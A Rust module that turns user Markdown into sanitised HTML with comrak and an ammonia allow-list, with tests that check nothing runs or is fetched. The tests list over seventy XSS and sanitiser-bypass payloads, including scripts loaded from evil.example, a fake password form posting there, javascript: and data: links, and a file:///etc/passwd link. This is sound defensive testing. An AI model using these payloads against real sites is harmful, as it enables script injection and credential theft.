//! What people write in Markdown, as HTML that runs nothing and fetches nothing.
//!
//! Two walls: the renderer writes no HTML of the author's, and what it wrote passes a list of harmless elements.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::Builder;
use askama::filters::HtmlSafe;
use comrak::{
    Arena, Options,
    arena_tree::NodeEdge,
    format_html,
    nodes::{AstNode, NodeValue},
    parse_document,
};

use crate::form::escape;

/// Deeper than this nobody writes; whoever does gets the text as it was typed.
const DEEPEST: usize = 40;

/// HTML that is safe to put into a page.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Html(String);

impl std::fmt::Display for Html {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl HtmlSafe for Html {}

static HARMLESS: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from([
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "sub",
            "sup",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        // Another site never sees where a reader came from, and gains nothing by being linked.
        .link_rel(Some("nofollow noopener noreferrer"));
    builder
});

/// Renders it. Headings begin at the third level, as the page has two of its own; a picture becomes a link to it.
pub(crate) fn render(text: &str) -> Html {
    let mut options = Options::default();
    options.extension.strikethrough = true;
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.superscript = true;
    let arena = Arena::new();
    if text.lines().any(too_deep) {
        return as_typed(text);
    }
    let root = parse_document(&arena, text, &options);
    if !plain(root) {
        return as_typed(text);
    }
    let mut html = String::with_capacity(text.len() * 2);
    if format_html(root, &options, &mut html).is_err() {
        return as_typed(text);
    }
    Html(HARMLESS.clean(&html).to_string())
}

/// A line that opens more quotations or lists than it can mean.
fn too_deep(line: &str) -> bool {
    let opens = line
        .chars()
        .take_while(|c| c.is_whitespace() || ">*+-".contains(*c))
        .filter(|c| !c.is_whitespace());
    let marks: Vec<_> = opens.take(DEEPEST + 1).collect();
    // A rule across the page is one mark, however long.
    marks.len() > DEEPEST && marks.contains(&'>')
}

/// Moves headings down and makes pictures links. `false` when it is nested too deep to be shown.
fn plain<'a>(root: &'a AstNode<'a>) -> bool {
    let mut depth = 0;
    for edge in root.traverse() {
        match edge {
            NodeEdge::Start(node) => {
                depth += 1;
                if depth > DEEPEST {
                    return false;
                }
                let value = &mut node.data.borrow_mut().value;
                match value {
                    NodeValue::Heading(heading) => heading.level = (heading.level + 2).min(6),
                    NodeValue::Image(link) => *value = NodeValue::Link(link.clone()),
                    _ => {}
                }
            }
            NodeEdge::End(_) => depth -= 1,
        }
    }
    true
}

fn as_typed(text: &str) -> Html {
    Html(format!("<pre>{}</pre>", escape(text)))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Ways to run something, known from lists of attacks on renderers and sanitisers.
    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=\"x\"></applet>",
        "<form action=\"https://evil.example\"><input name=password><button>OK</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus></select>",
        "<textarea onfocus=alert(1) autofocus></textarea>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a onclick=\"alert(1)\" href=\"#\">x</a>",
        "<a id=main name=token>x</a>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\\x6A\\x61vascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](<javascript:alert(1)>)",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.gif)",
        "![x\" onerror=\"alert(1)](x)",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")",
        "<javascript:alert(1)>",
        "<https://a.example/\"onmouseover=\"alert(1)>",
        "https://a.example/\"onmouseover=alert(1)",
        "```\"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`",
        "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
        "# <img src=x onerror=alert(1)>",
        "> <script>alert(1)</script>",
        "- <svg/onload=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u{202E}<script>alert(1)</script>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    ];

    /// Every tag of the HTML: name and attributes.
    fn tags(html: &str) -> Vec<String> {
        let parts = html.split('<').skip(1);
        parts
            .filter_map(|rest| rest.split_once('>'))
            .map(|(tag, _)| tag.to_owned())
            .collect()
    }

    #[test]
    fn nothing_runs_and_nothing_is_fetched() {
        assert!(ATTACKS.len() >= 50, "{}", ATTACKS.len());
        for attack in ATTACKS {
            // Alone, after text, and inside other things.
            for text in [
                (*attack).to_owned(),
                format!("Сәлем\n\n{attack}\n\nсоңы"),
                format!("**{attack}** *{attack}*"),
                format!("1. {attack}\n   - {attack}\n"),
            ] {
                let html = render(&text).to_string();
                assert_harmless(&html, &text);
            }
        }
    }

    #[test]
    fn the_sanitiser_alone_lets_nothing_through() {
        for attack in ATTACKS {
            let html = HARMLESS.clean(attack).to_string();
            assert_harmless(&html, attack);
        }
    }

    fn assert_harmless(html: &str, of: &str) {
        for tag in tags(html) {
            let mut words = tag.trim_start_matches('/').split_whitespace();
            let name = words.next().unwrap_or_default();
            let known = HARMLESS.clone_tags();
            assert!(known.contains(name), "<{tag}> of {of:?} in {html:?}");
            let attributes: Vec<_> = attributes(&tag);
            for (attribute, value) in attributes {
                assert!(
                    ["href", "title", "rel", "start"].contains(&&*attribute),
                    "{attribute} of {of:?} in {html:?}"
                );
                if attribute == "href" {
                    let scheme = scheme(&value);
                    assert!(
                        ["", "http", "https", "mailto"].contains(&&*scheme),
                        "{value} of {of:?} in {html:?}"
                    );
                }
            }
        }
    }

    /// What a browser takes for the scheme of an address: it passes over blanks and controls, and a scheme has letters,
    /// digits, `+`, `-` and `.` only.
    fn scheme(address: &str) -> String {
        let read: String = address.chars().filter(|c| *c > ' ').collect();
        let (scheme, _) = read.split_once(':').unwrap_or_default();
        let letter = |c: char| c.is_ascii_alphanumeric() || "+-.".contains(c);
        let begins = scheme.starts_with(|c: char| c.is_ascii_alphabetic());
        let scheme = if begins && scheme.chars().all(letter) {
            scheme
        } else {
            ""
        };
        scheme.to_lowercase()
    }

    #[test]
    fn a_scheme_is_read_as_browsers_read_it() {
        assert_eq!(scheme("JavaScript:alert(1)"), "javascript");
        assert_eq!(scheme(" java\tscript:alert(1)"), "javascript");
        for path in ["%5cx6a:1", "/a:b", "?a:b", "#a:b", "1:2", "a"] {
            assert_eq!(scheme(path), "", "{path}");
        }
    }

    /// The attributes of a tag; values are quoted, as both writers do.
    fn attributes(tag: &str) -> Vec<(String, String)> {
        let mut found = Vec::new();
        let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
        while let Some((name, after)) = rest.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap_or((after, ""));
            found.push((name.trim().to_owned(), value.to_owned()));
            rest = after;
        }
        found
    }

    #[test]
    fn what_teachers_write_is_shown() {
        let html = render(
            "# Мақсаты\n\nОқушы **бөлшекті** салыстырады, [дереккөз](https://a.example/б?x=1&y=2).\n\n\
             1. бір\n2. екі\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n~~ескі~~ H^2^O\n",
        )
        .to_string();
        for part in [
            "<h3>Мақсаты</h3>",
            "<strong>бөлшекті</strong>",
            "rel=\"nofollow noopener noreferrer\"",
            "<li>бір</li>",
            "<td>1</td>",
            "<del>ескі</del>",
            "<sup>2</sup>",
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
        let picture = render("![сурет](https://a.example/1.png)").to_string();
        assert!(
            picture.contains("<a href=\"https://a.example/1.png\"") && picture.contains("сурет"),
            "{picture}"
        );
    }

    #[test]
    fn what_is_nested_without_end_is_shown_as_typed() {
        for text in [
            ">".repeat(50_000),
            "> ".repeat(30_000),
            "[".repeat(50_000),
            "*a ".repeat(20_000),
            (0..60)
                .map(|n| format!("{}- a\n", " ".repeat(n * 2)))
                .collect(),
        ] {
            let html = render(&text).to_string();
            assert_harmless(&html, "nesting");
        }
        assert!(render(&"> ".repeat(500)).to_string().starts_with("<pre>"));
        assert_eq!(
            render("----------------------------------------------")
                .to_string()
                .trim(),
            "<hr>"
        );
    }
}
